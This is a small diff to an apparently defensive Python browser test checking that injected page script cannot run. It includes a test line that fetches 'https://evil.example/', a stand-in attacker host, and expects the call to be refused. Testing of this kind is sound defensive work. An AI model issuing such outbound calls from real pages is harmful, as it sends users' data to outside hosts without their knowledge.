@@ -186,7 +186,7 @@ def test_code_that_got_into_the_page_all_the_same_is_not_run(tab: Tab) -> None:
     refused = tab.run("fetch('https://evil.example/').then(() => 'sent', () => 'refused')")
     assert (tab.run("window.hits"), refused) == (0, "refused")
     assert len(tab.complaints()) >= 3
-    tab._browser.events.clear()
+    assert tab.complaints() == [], "each is told once"
 
 
 def test_the_answer_is_drawn_in_words_lists_and_code(tab: Tab) -> None:
